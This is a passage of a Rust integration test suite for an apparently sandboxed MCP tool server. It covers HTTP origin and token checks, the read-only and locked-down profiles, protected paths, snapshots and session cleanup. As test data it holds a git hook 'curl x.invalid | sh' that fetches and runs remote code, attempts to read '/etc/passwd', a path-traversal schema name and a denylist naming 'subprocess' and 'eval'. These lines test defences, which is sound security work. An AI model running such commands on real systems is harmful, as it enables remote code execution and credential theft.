//! `warden serve` through real clients: the official MCP Python SDK over stdio and Streamable
//! HTTP (every tool, failure cases, escapes, progress, cancellation), raw HTTP for the
//! transport's own defences, and a client that disappears mid-call.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use super::common::*;

/// Run `fixtures/mcp/e2e_client.py`; it must pass at least `min` checks and fail none.
fn assert_sdk_run(args: &[&str], min: usize) {
    assert_sdk_script("e2e_client.py", args, min);
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn http_server(extra: &[&str]) -> (Server, u16) {
    let port = free_port();
    let addr = format!("127.0.0.1:{port}");
    let child = Command::new(warden_bin())
        .args(["serve", "--http", &addr])
        .args(extra)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    assert!(
        eventually(10, || TcpStream::connect(&addr).is_ok()),
        "server did not listen"
    );
    (Server(child), port)
}

/// One raw HTTP/1.1 POST of an initialize request; returns the status code.
fn raw_post(port: u16, headers: &[&str]) -> u16 {
    let body = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#;
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut req = format!(
        "POST /mcp HTTP/1.1\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    if !headers
        .iter()
        .any(|h| h.to_ascii_lowercase().starts_with("host:"))
    {
        req.push_str(&format!("Host: 127.0.0.1:{port}\r\n"));
    }
    for h in headers {
        req.push_str(h);
        req.push_str("\r\n");
    }
    req.push_str("\r\n");
    req.push_str(body);
    s.write_all(req.as_bytes()).unwrap();
    let mut status = String::new();
    BufReader::new(&mut s).read_line(&mut status).unwrap();
    status
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0)
}

#[test]
pub fn python_sdk_over_stdio() {
    assert_sdk_run(&["--warden", warden_bin()], 70);
}

#[test]
pub fn python_sdk_over_streamable_http() {
    let (_server, port) = http_server(&[]);
    assert_sdk_run(&["--url", &format!("http://127.0.0.1:{port}/mcp")], 70);
}

#[test]
pub fn http_refuses_foreign_origins_and_hosts() {
    let (_server, port) = http_server(&[]);
    assert_eq!(raw_post(port, &["Origin: http://evil.test"]), 403);
    assert_eq!(raw_post(port, &["Host: evil.test"]), 403);
    assert_eq!(
        raw_post(port, &[]),
        200,
        "a non-browser client (no Origin) is served"
    );
}

#[test]
pub fn http_allows_configured_origins_only() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        "[http]\nallowed_origins = ['http://localhost:3000']\n",
    )
    .unwrap();
    let (_server, port) = http_server(&["--config", cfg.to_str().unwrap()]);
    assert_eq!(raw_post(port, &["Origin: http://localhost:3000"]), 200);
    assert_eq!(raw_post(port, &["Origin: http://localhost:3001"]), 403);
}

#[test]
pub fn http_requires_the_bearer_token_when_configured() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(&cfg, "[http]\nbearer_token = 's3cret-token'\n").unwrap();
    let (_server, port) = http_server(&["--config", cfg.to_str().unwrap()]);
    assert_eq!(raw_post(port, &[]), 401);
    assert_eq!(raw_post(port, &["Authorization: Bearer wrong-token!"]), 401);
    assert_eq!(raw_post(port, &["Authorization: Bearer s3cret-token"]), 200);
}

#[test]
pub fn http_refuses_a_public_bind_without_a_token() {
    let r = warden(&["serve", "--http", "0.0.0.0:0"]);
    assert_eq!(r.status, 1, "{r:?}");
    assert!(r.stderr.contains("without a bearer token"), "{r:?}");
}

/// A server on stdio: the process, its input and its output.
type StdioSession = (
    Child,
    std::process::ChildStdin,
    BufReader<std::process::ChildStdout>,
);

/// Speak raw JSON-RPC over stdio.
fn stdio_session(extra: &[&str]) -> StdioSession {
    stdio_session_with(extra, &[])
}

/// [`stdio_session`] with extra environment variables.
fn stdio_session_with(extra: &[&str], env: &[(&str, &std::path::Path)]) -> StdioSession {
    stdio_session_of(warden_bin(), extra, env)
}

/// [`stdio_session_with`] of the `warden` binary at `bin`.
fn stdio_session_of(
    bin: impl AsRef<std::ffi::OsStr>,
    extra: &[&str],
    env: &[(&str, &std::path::Path)],
) -> StdioSession {
    let mut child = Command::new(bin)
        .arg("serve")
        .args(extra)
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    writeln!(stdin, r#"{{"jsonrpc":"2.0","id":1,"method":"initialize","params":{{"protocolVersion":"2025-06-18","capabilities":{{}},"clientInfo":{{"name":"t","version":"1"}}}}}}"#).unwrap();
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    assert!(line.contains("\"warden\""), "{line}");
    writeln!(
        stdin,
        r#"{{"jsonrpc":"2.0","method":"notifications/initialized"}}"#
    )
    .unwrap();
    (child, stdin, stdout)
}

/// `warden serve --config FILE` over raw JSON-RPC on stdio, its configuration written by
/// `toml` (given a scratch folder), and its tools called one request at a time.
struct Configured {
    dir: tempfile::TempDir,
    child: Child,
    stdin: std::process::ChildStdin,
    stdout: BufReader<std::process::ChildStdout>,
    id: u32,
}

impl Configured {
    fn start(toml: impl FnOnce(&std::path::Path) -> String) -> Configured {
        let dir = tempfile::tempdir().unwrap();
        let cfg = dir.path().join("c.toml");
        std::fs::write(&cfg, toml(dir.path())).unwrap();
        let (child, stdin, stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
        Configured {
            dir,
            child,
            stdin,
            stdout,
            id: 1,
        }
    }

    /// A server whose shared workspace lasts (`workspace_root` = `DIR/ws`, its folder
    /// `DIR/ws/shared`), with `extra` settings.
    fn lasting(extra: &str) -> Configured {
        Configured::start(|dir| {
            let root = dir.join("ws");
            std::fs::create_dir_all(&root).unwrap();
            format!(
                "workspace_root = '{}'\nshared_workspace = true\n{extra}",
                root.display()
            )
        })
    }

    /// `tools/call` with `args` (a JSON object): the result as [`tool_result`] shapes it.
    fn call(&mut self, args: &str) -> serde_json::Value {
        self.id += 1;
        let v = request(
            &mut self.stdin,
            &mut self.stdout,
            self.id,
            "tools/call",
            args,
        );
        tool_result(&v)
    }

    /// End of input, and the server gone; its scratch folder is returned for checks.
    fn close(self) -> tempfile::TempDir {
        let Configured {
            dir,
            mut child,
            stdin,
            ..
        } = self;
        drop(stdin);
        child.wait().unwrap();
        dir
    }
}

fn request(
    stdin: &mut impl Write,
    stdout: &mut impl BufRead,
    id: u32,
    method: &str,
    params: &str,
) -> serde_json::Value {
    writeln!(
        stdin,
        r#"{{"jsonrpc":"2.0","id":{id},"method":"{method}","params":{params}}}"#
    )
    .unwrap();
    loop {
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        let v: serde_json::Value = serde_json::from_str(&line).unwrap();
        if v["id"] == id {
            return v;
        }
    }
}

#[test]
pub fn readonly_profile_offers_no_writers() {
    let (mut child, mut stdin, mut stdout) = stdio_session(&["--profile", "readonly"]);
    let v = request(&mut stdin, &mut stdout, 2, "tools/list", "{}");
    let names = names(&v["result"]["tools"]);
    assert!(
        names.contains(&"file_read") && names.contains(&"validate_json"),
        "{names:?}"
    );
    for w in [
        "run_command",
        "run_python",
        "file_write",
        "file_delete",
        "file_move",
    ] {
        assert!(!names.contains(&w), "{w} offered by readonly: {names:?}");
    }
    // And calling one anyway is refused as an unknown tool, not run.
    let v = request(
        &mut stdin,
        &mut stdout,
        3,
        "tools/call",
        r#"{"name":"run_command","arguments":{"command":"true"}}"#,
    );
    assert_eq!(v["error"]["code"], -32602, "{v}");
    drop(stdin);
    child.wait().unwrap();
}

#[test]
pub fn malformed_calls_get_invalid_params_not_a_crash() {
    let (mut child, mut stdin, mut stdout) = stdio_session(&[]);
    let v = request(
        &mut stdin,
        &mut stdout,
        2,
        "tools/call",
        r#"{"arguments":{}}"#,
    );
    assert_eq!(v["error"]["code"], -32602, "{v}");
    let v = request(
        &mut stdin,
        &mut stdout,
        3,
        "tools/call",
        r#"{"name":"run_command","arguments":[1,2]}"#,
    );
    assert_eq!(v["error"]["code"], -32602, "{v}");
    let v = request(&mut stdin, &mut stdout, 4, "ping", "{}");
    assert!(v["result"].is_object(), "server still answers: {v}");
    drop(stdin);
    child.wait().unwrap();
}

#[test]
pub fn a_client_that_disconnects_leaves_no_process() {
    let n = nonce();
    let (mut child, mut stdin, _stdout) = stdio_session(&[]);
    writeln!(stdin, r#"{{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{{"name":"run_command","arguments":{{"command":"sleep 1007.{n}"}}}}}}"#).unwrap();
    assert!(eventually(10, || !host_processes_with(&format!(
        "sleep 1007.{n}"
    ))
    .is_empty()));
    drop(stdin); // the client goes away mid-call
    // At once, not after rmcp's 5 s grace period for in-flight calls.
    assert!(
        eventually(3, || host_processes_with(&format!("1007.{n}")).is_empty()),
        "left behind: {:?}",
        host_processes_with(&format!("1007.{n}"))
    );
    let _ = child.kill();
    child.wait().unwrap();
}

#[test]
pub fn a_killed_server_leaves_no_process() {
    let n = nonce();
    let (mut child, mut stdin, _stdout) = stdio_session(&[]);
    writeln!(stdin, r#"{{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{{"name":"run_command","arguments":{{"command":"sleep 1008.{n}"}}}}}}"#).unwrap();
    assert!(eventually(10, || !host_processes_with(&format!(
        "sleep 1008.{n}"
    ))
    .is_empty()));
    child.kill().unwrap(); // SIGKILL: the jail's lifeline closes with the server
    child.wait().unwrap();
    assert!(
        eventually(10, || host_processes_with(&format!("1008.{n}")).is_empty()),
        "left behind: {:?}",
        host_processes_with(&format!("1008.{n}"))
    );
}

#[test]
pub fn audit_log_records_every_call() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.jsonl");
    let cfg = dir.path().join("c.toml");
    std::fs::write(&cfg, format!("audit_log = '{}'\n", log.display())).unwrap();
    let (mut child, mut stdin, mut stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
    let big = "x".repeat(5000);
    request(
        &mut stdin,
        &mut stdout,
        2,
        "tools/call",
        &format!(r#"{{"name":"run_command","arguments":{{"command":"echo {big} >/dev/null"}}}}"#),
    );
    request(
        &mut stdin,
        &mut stdout,
        3,
        "tools/call",
        r#"{"name":"file_read","arguments":{"path":"../x"}}"#,
    );
    drop(stdin);
    child.wait().unwrap();
    let mut text = String::new();
    std::fs::File::open(&log)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert_eq!(lines[0]["tool"], "run_command");
    assert_eq!(lines[0]["outcome"]["ok"], true);
    assert!(
        lines[0]["arguments"]["command"]
            .as_str()
            .unwrap()
            .contains("bytes elided")
    );
    assert_eq!(lines[1]["outcome"]["error"], "invalid_path");
    assert!(lines[1]["duration_ms"].is_u64() && lines[1]["session"].is_string());
}

/// A server killed with SIGKILL while `snapshot_create` runs leaves the store consistent: every
/// manifest on disk is complete and every blob it names is there; a new server lists and
/// restores the earlier snapshot.
#[test]
pub fn snapshot_store_survives_a_kill_during_create() {
    let root = tempfile::tempdir().unwrap();
    let cfg = root.path().join("c.toml");
    std::fs::write(
        &cfg,
        format!(
            "workspace_root = '{}'\nshared_workspace = true\n",
            root.path().join("ws").display()
        ),
    )
    .unwrap();
    let ws = root.path().join("ws/shared");
    std::fs::create_dir_all(&ws).unwrap();
    for i in 0..200 {
        std::fs::write(ws.join(format!("f{i:03}")), format!("{i:08}").repeat(8192)).unwrap();
    }
    let store = root.path().join("ws/.snapshots/shared");
    let create = r#"{"name":"snapshot_create","arguments":{"description":"x"}}"#;
    let (mut child, mut stdin, mut stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
    let v = request(&mut stdin, &mut stdout, 2, "tools/call", create);
    let first = v["result"]["structuredContent"]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    drop(stdin);
    child.wait().unwrap();
    for (i, delay_ms) in [5u64, 20, 40, 80, 150].into_iter().enumerate() {
        // Change the contents so the next snapshot has new blobs to write.
        for j in 0..200 {
            std::fs::write(
                ws.join(format!("f{j:03}")),
                format!("{i}-{j:06}").repeat(8192),
            )
            .unwrap();
        }
        let (mut child, mut stdin, _stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
        writeln!(
            stdin,
            r#"{{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{create}}}"#
        )
        .unwrap();
        std::thread::sleep(Duration::from_millis(delay_ms));
        child.kill().unwrap();
        child.wait().unwrap();
        for m in std::fs::read_dir(store.join("manifests"))
            .unwrap()
            .flatten()
        {
            if m.file_name().to_string_lossy().starts_with(".tmp-") {
                continue; // swept when the store is next opened
            }
            let text = std::fs::read_to_string(m.path()).unwrap();
            let manifest: serde_json::Value = serde_json::from_str(&text)
                .unwrap_or_else(|e| panic!("torn manifest {:?}: {e}", m.path()));
            for e in manifest["entries"].as_array().unwrap() {
                if let Some(h) = e["sha256"].as_str() {
                    let blob = std::fs::metadata(store.join("blobs").join(h))
                        .unwrap_or_else(|_| panic!("manifest {:?} names a missing blob", m.path()));
                    assert_eq!(blob.len(), e["size"].as_u64().unwrap());
                }
            }
        }
    }
    let (mut child, mut stdin, mut stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
    let v = request(
        &mut stdin,
        &mut stdout,
        2,
        "tools/call",
        r#"{"name":"snapshot_list","arguments":{}}"#,
    );
    let ids: Vec<&str> = v["result"]["structuredContent"]["snapshots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap())
        .collect();
    assert!(ids.contains(&first.as_str()), "{v}");
    let restore = format!(r#"{{"name":"snapshot_restore","arguments":{{"id":"{first}"}}}}"#);
    let v = request(&mut stdin, &mut stdout, 3, "tools/call", &restore);
    assert_eq!(v["result"]["isError"], false, "{v}");
    assert_eq!(
        std::fs::read_to_string(ws.join("f007")).unwrap(),
        "00000007".repeat(8192)
    );
    let leftovers = std::fs::read_dir(store.join("blobs"))
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(".tmp-"))
        .count();
    assert_eq!(leftovers, 0, "temporary blobs were not swept");
    drop(stdin);
    child.wait().unwrap();
}

#[test]
pub fn locked_down_profile_allowlists_and_limits() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        "profile = 'locked'\n[profiles.locked]\n\
         allowed_programs = ['echo', 'ls']\n\
         python_denylist = ['subprocess', 'eval']\n\
         allowed_extensions = ['txt']\n\
         max_file_bytes = 100\n",
    )
    .unwrap();
    let (mut child, mut stdin, mut stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
    let mut id = 1;
    let mut call = |args: &str| {
        id += 1;
        let v = request(&mut stdin, &mut stdout, id, "tools/call", args);
        tool_result(&v)
    };
    let kind = |v: &serde_json::Value| v["error"]["kind"].as_str().unwrap_or("").to_owned();
    assert_eq!(
        call(r#"{"name":"run_command","arguments":{"argv":["echo","ok"]}}"#)["stdout"],
        "ok\n"
    );
    assert_eq!(
        kind(&call(
            r#"{"name":"run_command","arguments":{"argv":["/bin/cat","/etc/passwd"]}}"#
        )),
        "not_allowed"
    );
    // A copy in the workspace named like an allowed program is not that program.
    call(r#"{"name":"file_write","arguments":{"path":"echo.txt","content":"x"}}"#);
    assert_eq!(
        kind(&call(
            r#"{"name":"run_command","arguments":{"argv":["/workspace/echo"]}}"#
        )),
        "not_allowed"
    );
    assert_eq!(
        kind(&call(
            r#"{"name":"run_command","arguments":{"argv":["./echo"]}}"#
        )),
        "not_allowed"
    );
    assert_eq!(
        kind(&call(
            r#"{"name":"run_command","arguments":{"command":"echo hi"}}"#
        )),
        "not_allowed"
    );
    let v = call(
        r#"{"name":"run_python","arguments":{"code":"x = 1\nimport subprocess\nprint(eval('1'))"}}"#,
    );
    let msg = v["error"]["message"].as_str().unwrap_or("");
    assert!(
        kind(&v) == "not_allowed"
            && msg.contains("subprocess at line 2 column 1")
            && msg.contains("eval at line 3"),
        "{v}"
    );
    assert_eq!(
        call(r#"{"name":"run_python","arguments":{"code":"2+2"}}"#)["result"],
        4
    );
    assert_eq!(
        kind(&call(
            r#"{"name":"file_write","arguments":{"path":"a.py","content":"x"}}"#
        )),
        "extension_not_allowed"
    );
    let big = "y".repeat(150);
    let v = call(&format!(
        r#"{{"name":"file_write","arguments":{{"path":"a.txt","content":"{big}"}}}}"#
    ));
    assert_eq!(kind(&v), "too_large", "{v}");
    assert_eq!(
        call(r#"{"name":"file_write","arguments":{"path":"a.txt","content":"small"}}"#)["size"],
        5
    );
    drop(stdin);
    child.wait().unwrap();
}

#[test]
pub fn named_schemas_and_the_snapshot_store_limit() {
    let dir = tempfile::tempdir().unwrap();
    let schemas = dir.path().join("schemas");
    std::fs::create_dir(&schemas).unwrap();
    std::fs::write(
        schemas.join("person.json"),
        r#"{"type":"object","required":["name"]}"#,
    )
    .unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        format!(
            "schemas_dir = '{}'\nsnapshots_max_bytes = 50000\n",
            schemas.display()
        ),
    )
    .unwrap();
    let (mut child, mut stdin, mut stdout) = stdio_session(&["--config", cfg.to_str().unwrap()]);
    let v = request(
        &mut stdin,
        &mut stdout,
        2,
        "resources/read",
        r#"{"uri":"warden://schemas"}"#,
    );
    assert!(
        v["result"]["contents"][0]["text"]
            .as_str()
            .unwrap()
            .contains("person"),
        "{v}"
    );
    let v = request(
        &mut stdin,
        &mut stdout,
        3,
        "tools/call",
        r#"{"name":"validate_json","arguments":{"data":{"age":1},"schema_name":"person"}}"#,
    );
    assert_eq!(v["result"]["structuredContent"]["valid"], false, "{v}");
    let v = request(
        &mut stdin,
        &mut stdout,
        4,
        "tools/call",
        r#"{"name":"validate_json","arguments":{"data":{"name":"x"},"schema_name":"person"}}"#,
    );
    assert_eq!(v["result"]["structuredContent"]["valid"], true, "{v}");
    let v = request(
        &mut stdin,
        &mut stdout,
        5,
        "tools/call",
        r#"{"name":"validate_json","arguments":{"data":1,"schema_name":"../etc/passwd"}}"#,
    );
    assert_eq!(tool_result(&v)["error"]["kind"], "invalid_arguments", "{v}");
    // 30 KB then 40 KB: the first blob fits, the second does not; nothing may stay behind.
    request(
        &mut stdin,
        &mut stdout,
        6,
        "tools/call",
        r#"{"name":"run_command","arguments":{"command":"head -c 30000 /dev/urandom > a; head -c 40000 /dev/urandom > b"}}"#,
    );
    let v = request(
        &mut stdin,
        &mut stdout,
        7,
        "tools/call",
        r#"{"name":"snapshot_create","arguments":{}}"#,
    );
    assert_eq!(tool_result(&v)["error"]["kind"], "too_large", "{v}");
    let v = request(
        &mut stdin,
        &mut stdout,
        8,
        "tools/call",
        r#"{"name":"snapshot_list","arguments":{}}"#,
    );
    assert_eq!(
        v["result"]["structuredContent"]["snapshots"],
        serde_json::json!([]),
        "{v}"
    );
    assert_eq!(
        v["result"]["structuredContent"]["store_bytes"], 0,
        "a failed snapshot left blobs: {v}"
    );
    drop(stdin);
    child.wait().unwrap();
}

/// A tool call's result: its structured content, or for an error the JSON in its text (errors
/// carry no structuredContent, which would not match the tool's output schema).
fn tool_result(v: &serde_json::Value) -> serde_json::Value {
    if v["result"]["isError"] == true {
        assert!(v["result"].get("structuredContent").is_none(), "{v}");
        serde_json::from_str(v["result"]["content"][0]["text"].as_str().unwrap()).unwrap()
    } else {
        v["result"]["structuredContent"].clone()
    }
}

/// With a `workspace_root` (workspaces that outlive their session), the paths that run code
/// later are read-only to the file tools as to commands; `allow_protected` opens one.
#[test]
pub fn lasting_workspaces_keep_their_protected_paths() {
    let mut s = Configured::lasting("allow_protected = ['.vscode']\n");
    let mut call = |args: &str| s.call(args);
    let kind = |v: &serde_json::Value| v["error"]["kind"].as_str().unwrap_or("").to_owned();
    for path in [
        ".git/hooks/pre-commit",
        ".mcp.json",
        ".claude/settings.json",
        ".env",
    ] {
        let v = call(&format!(
            r#"{{"name":"file_write","arguments":{{"path":"{path}","content":"x"}}}}"#
        ));
        assert_eq!(kind(&v), "protected_path", "{path}: {v}");
    }
    let v = call(r#"{"name":"file_write","arguments":{"path":"notes.txt","content":"x"}}"#);
    assert_eq!(kind(&v), "", "{v}");
    let v =
        call(r#"{"name":"file_move","arguments":{"source":"notes.txt","destination":".envrc"}}"#);
    assert_eq!(kind(&v), "protected_path", "{v}");
    let v =
        call(r#"{"name":"file_write","arguments":{"path":".vscode/tasks.json","content":"{}"}}"#);
    assert_eq!(kind(&v), "", "allowed: {v}");
    // Commands: the jail's read-only binds say the same.
    let v = call(
        r#"{"name":"run_command","arguments":{"command":"echo x > .mcp.json; echo $?; mkdir -p .git/hooks 2>&1; echo y > .vscode/x && echo vscode-ok"}}"#,
    );
    let out = v["stdout"].as_str().unwrap_or("");
    assert!(out.starts_with('2') || out.contains("Read-only"), "{v}");
    assert!(out.contains("vscode-ok"), "{v}");
    let dir = s.close();
    let shared = dir.path().join("ws/shared");
    assert!(
        !shared.join(".mcp.json").exists() && !shared.join(".git").exists(),
        "placeholders gone"
    );
    assert!(shared.join("notes.txt").exists() && shared.join(".vscode/x").exists());
}

/// Issue #31: restoring a snapshot into a lasting workspace brought protected paths back as
/// they were when it was taken (a git hook removed since came back, undoing the protection).
/// Protected paths are left as they are now, both ways, and the result lists them.
#[test]
pub fn a_restore_leaves_protected_paths_as_they_are_now() {
    let mut s = Configured::lasting("");
    let shared = s.dir.path().join("ws/shared");
    // The operator's folder had a hook and an agent configuration when the snapshot was taken.
    std::fs::create_dir_all(shared.join(".git/hooks")).unwrap();
    std::fs::write(
        shared.join(".git/hooks/post-checkout"),
        "#!/bin/sh\ncurl x.invalid | sh\n",
    )
    .unwrap();
    std::fs::write(shared.join(".mcp.json"), "{\"old\": true}").unwrap();
    std::fs::write(shared.join("notes.txt"), "v1").unwrap();
    let snap = s.call(r#"{"name":"snapshot_create","arguments":{"description":"with a hook"}}"#);
    let sid = snap["id"]
        .as_str()
        .unwrap_or_else(|| panic!("{snap}"))
        .to_owned();
    // Since then the hook was removed, the configuration changed and a note edited.
    std::fs::remove_file(shared.join(".git/hooks/post-checkout")).unwrap();
    std::fs::write(shared.join(".mcp.json"), "{\"new\": true}").unwrap();
    std::fs::write(shared.join("notes.txt"), "v2").unwrap();
    let v = s.call(&format!(
        r#"{{"name":"snapshot_restore","arguments":{{"id":"{sid}"}}}}"#
    ));
    let left: Vec<&str> = v["left_protected"]
        .as_array()
        .unwrap_or_else(|| panic!("{v}"))
        .iter()
        .filter_map(|x| x.as_str())
        .collect();
    assert!(left.contains(&".git/hooks/post-checkout"), "{v}");
    assert!(left.contains(&".mcp.json"), "{v}");
    assert!(
        !shared.join(".git/hooks/post-checkout").exists(),
        "the hook stays gone"
    );
    assert_eq!(
        std::fs::read_to_string(shared.join(".mcp.json")).unwrap(),
        "{\"new\": true}"
    );
    assert_eq!(
        std::fs::read_to_string(shared.join("notes.txt")).unwrap(),
        "v1"
    );
    drop(s.close());
}

/// Regression: snapshot names were stored lossily, so a restore left `x\xff` in place, two
/// names differing only in invalid bytes collapsed into one, and special files vanished
/// silently. Names now round-trip exactly; special files are listed as skipped.
#[test]
pub fn snapshots_keep_names_that_are_not_utf8() {
    let mut s = Configured::lasting("");
    let mut call = |args: &str| s.call(args);
    let v = call(
        r#"{"name":"run_command","arguments":{"command":"printf one > \"$(printf 'x\\377')\"; printf two > \"$(printf 'x\\376')\"; ln -s \"$(printf 't\\375')\" link; mkfifo pipe"}}"#,
    );
    assert_eq!(v["exit_code"], 0, "{v}");
    let snap = call(r#"{"name":"snapshot_create","arguments":{"description":"raw names"}}"#);
    assert_eq!(snap["files"], 2, "two files, not one: {snap}");
    assert_eq!(snap["skipped"], serde_json::json!(["pipe"]), "{snap}");
    let sid = snap["id"].as_str().unwrap().to_owned();
    let v = call(
        r#"{"name":"run_command","arguments":{"command":"rm \"$(printf 'x\\377')\"; printf changed > \"$(printf 'x\\376')\"; printf new > \"$(printf 'y\\374')\"; rm link"}}"#,
    );
    assert_eq!(v["exit_code"], 0, "{v}");
    let d = call(&format!(
        r#"{{"name":"snapshot_diff","arguments":{{"id":"{sid}"}}}}"#
    ));
    assert_eq!(d["added"], serde_json::json!(["y\\xfc"]), "{d}");
    assert_eq!(d["modified"], serde_json::json!(["x\\xfe"]), "{d}");
    assert_eq!(d["removed"], serde_json::json!(["link", "x\\xff"]), "{d}");
    let r = call(&format!(
        r#"{{"name":"snapshot_restore","arguments":{{"id":"{sid}"}}}}"#
    ));
    assert!(r.get("error").is_none(), "{r}");
    let dir = s.close();
    use std::os::unix::ffi::OsStrExt;
    let ws = dir.path().join("ws/shared");
    let name = |b: &[u8]| ws.join(std::ffi::OsStr::from_bytes(b));
    assert_eq!(std::fs::read(name(b"x\xff")).unwrap(), b"one");
    assert_eq!(std::fs::read(name(b"x\xfe")).unwrap(), b"two");
    assert!(
        !name(b"y\xfc").exists(),
        "the file made after the snapshot is gone"
    );
    assert_eq!(
        std::fs::read_link(ws.join("link"))
            .unwrap()
            .as_os_str()
            .as_bytes(),
        b"t\xfd"
    );
}

/// Regression: SIGTERM, SIGHUP or SIGINT left `warden-serve-*/` (the audit log with every
/// call's arguments, and the workspaces) behind. Now the server cleans up as at the end of a
/// session, over stdio and HTTP, and exits 128+N.
#[test]
pub fn termination_signals_leave_no_session_data() {
    use nix::sys::signal::Signal;
    for (signal, http) in [
        (Signal::SIGTERM, false),
        (Signal::SIGHUP, false),
        (Signal::SIGINT, false),
        (Signal::SIGTERM, true),
    ] {
        let tmp = tempfile::tempdir().unwrap();
        let operator_root = tmp.path().join("workspaces");
        let cfg = tmp.path().join("c.toml");
        std::fs::write(
            &cfg,
            format!("workspace_root = '{}'\n", operator_root.display()),
        )
        .unwrap();
        let private = tmp.path().join("tmp");
        std::fs::create_dir_all(&private).unwrap();
        let mut child = if http {
            let port = free_port();
            let addr = format!("127.0.0.1:{port}");
            let child = Command::new(warden_bin())
                .args(["serve", "--config", cfg.to_str().unwrap(), "--http", &addr])
                .env("TMPDIR", &private)
                .stdin(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            assert!(eventually(10, || TcpStream::connect(("127.0.0.1", port)).is_ok()));
            assert_eq!(raw_post(port, &[]), 200);
            child
        } else {
            let (child, mut stdin, mut stdout) = stdio_session_with(
                &["--config", cfg.to_str().unwrap()],
                &[("TMPDIR", private.as_path())],
            );
            let v = request(
                &mut stdin,
                &mut stdout,
                2,
                "tools/call",
                r#"{"name":"run_command","arguments":{"command":"echo secret > note"}}"#,
            );
            assert_eq!(tool_result(&v)["exit_code"], 0, "{v}");
            // Keep the pipes open: the server must not see EOF first.
            std::mem::forget((stdin, stdout));
            child
        };
        let entries = |dir: &std::path::Path| -> Vec<String> {
            std::fs::read_dir(dir)
                .map(|d| {
                    d.flatten()
                        .map(|e| e.file_name().to_string_lossy().into_owned())
                        .collect()
                })
                .unwrap_or_default()
        };
        assert!(
            !entries(&private).is_empty(),
            "the state folder exists while serving"
        );
        let pid = nix::unistd::Pid::from_raw(child.id().cast_signed());
        nix::sys::signal::kill(pid, signal).unwrap();
        let status = child.wait().unwrap();
        assert_eq!(
            status.code(),
            Some(128 + signal as i32),
            "{signal} http={http}"
        );
        assert_eq!(
            entries(&private),
            Vec::<String>::new(),
            "{signal} http={http}"
        );
        let sessions: Vec<String> = entries(&operator_root)
            .into_iter()
            .filter(|n| !n.starts_with('.'))
            .collect();
        assert!(sessions.is_empty(), "{signal} http={http}: {sessions:?}");
        let stores = entries(&operator_root.join(".snapshots"));
        assert!(stores.is_empty(), "{signal} http={http}: {stores:?}");
    }
}

/// Regression: a malformed JSON line or invalid UTF-8 on stdio was dropped without an answer;
/// JSON-RPC 2.0 wants `-32700 Parse error` with `id: null` (and `-32600` for a value that
/// cannot be a request). The session goes on, and ends promptly at end of input.
#[test]
pub fn parse_errors_are_answered_on_stdio() {
    let (mut child, mut stdin, mut stdout) = stdio_session(&[]);
    let mut next = || {
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        serde_json::from_str::<serde_json::Value>(&line).unwrap_or_else(|e| panic!("{e}: {line}"))
    };
    stdin
        .write_all(b"{\"jsonrpc\": \"2.0\", \"id\": 5, \"method\"\n")
        .unwrap();
    let v = next();
    assert_eq!(v["error"]["code"], -32700, "{v}");
    assert_eq!(v["id"], serde_json::Value::Null, "{v}");
    stdin.write_all(b"\xff\xfe{}\n").unwrap();
    assert_eq!(next()["error"]["code"], -32700);
    stdin.write_all(b"42\n").unwrap();
    assert_eq!(next()["error"]["code"], -32600);
    stdin
        .write_all(b"{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"ping\"}\n")
        .unwrap();
    let v = next();
    assert_eq!(v["id"], 9, "the session goes on: {v}");
    drop(stdin);
    let started = std::time::Instant::now();
    let status = child.wait().unwrap();
    assert!(status.success());
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "exits promptly at EOF"
    );
}

/// A schema whose evaluation explodes: `anyOf` of two references, `depth` levels deep, that
/// every value fails (2^depth evaluations).
fn exploding_schema(depth: usize) -> serde_json::Value {
